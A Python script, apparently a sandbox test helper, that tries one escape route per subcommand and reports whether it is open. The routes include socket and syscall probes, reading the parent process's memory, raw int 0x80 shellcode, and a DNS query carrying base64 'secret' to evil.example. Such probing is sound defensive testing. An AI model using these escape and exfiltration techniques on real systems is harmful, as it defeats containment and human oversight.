#!/usr/bin/env python3
"""Tries one way out of a sandbox: exits with 0 if it is open, with 1 if it is refused."""
import ctypes
import errno
import mmap
import os
import socket
import sys

libc = ctypes.CDLL(None, use_errno=True)
X86_64 = os.uname().machine == "x86_64"


def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(argument) for argument in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def connect(address):
    kind = socket.SOCK_STREAM
    path = "\0" + address[1:] if address.startswith("@") else address
    socket.socket(socket.AF_UNIX, kind).connect(path)


def sendto(kind, address):
    assert kind == "unix-dgram"
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"out", address)


def take_descriptor(path):
    client = socket.socket(socket.AF_UNIX)
    client.connect(path)
    _, descriptors, _, _ = socket.recv_fds(client, 1, 1)
    print(os.read(descriptors[0], 99).decode())


def ask_name_server(port):
    name = b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0", b"evil", b"example"))
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1"
    socket.socket(type=socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", int(port)))


def make_socket(family):
    socket.socket(getattr(socket, family), socket.SOCK_RAW if family != "AF_ALG" else socket.SOCK_SEQPACKET)


def netlink(protocol):
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, int(protocol))


def process_vm_readv(_):
    buffer = ctypes.create_string_buffer(16)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
    address = ctypes.addressof(vector)
    call(310 if X86_64 else 270, os.getppid(), address, 1, address, 1, 0)


def pidfd_getfd(_, number):
    call(438, os.pidfd_open(os.getppid()), int(number), 0)


def icmp():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


def chroot():
    os.chroot("/usr")


def io_uring():
    parameters = ctypes.create_string_buffer(120)
    call(425, 4, ctypes.addressof(parameters))


def keyrings():
    call(250 if X86_64 else 219, 0, -4, 0)


def int80(_):
    # mov eax, 20 (getpid in the 32-bit numbering); int 0x80; ret
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    if ctypes.CFUNCTYPE(ctypes.c_int)(address)() < 0:
        raise OSError("refused")


def raw_call(_):
    # getpid in the x32 numbering
    call(0x40000000 | 39)


ATTEMPTS = {
    "connect": connect,
    "sendto": sendto,
    "take-descriptor": take_descriptor,
    "ask-name-server": ask_name_server,
    "socket": make_socket,
    "netlink": netlink,
    "process_vm_readv": process_vm_readv,
    "pidfd_getfd": pidfd_getfd,
    "chroot+fchdir": chroot,
    "io_uring_setup": io_uring,
    "keyrings": keyrings,
    "icmp": icmp,
    "int80": int80,
    "syscall": raw_call,
}

try:
    ATTEMPTS[sys.argv[1]](*sys.argv[2:])
except OSError as error:
    # Nothing was found at that address or under that number: it was looked for.
    if error.errno in (errno.EFAULT, errno.EBADF):
        sys.exit(0)
    print(error, file=sys.stderr)
    sys.exit(1)
